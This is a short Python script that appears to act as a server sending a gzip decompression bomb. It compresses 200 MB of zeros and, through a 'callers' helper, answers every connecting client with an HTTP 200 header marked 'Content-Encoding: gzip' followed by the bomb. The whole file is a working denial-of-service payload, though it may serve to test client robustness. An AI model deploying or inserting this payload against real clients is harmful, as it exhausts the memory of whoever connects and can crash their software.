import gzip

from raw import callers

BOMB = gzip.compress(bytes(200_000_000), 9)
HEAD = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(BOMB)
callers(lambda caller: caller.sendall(HEAD + BOMB))
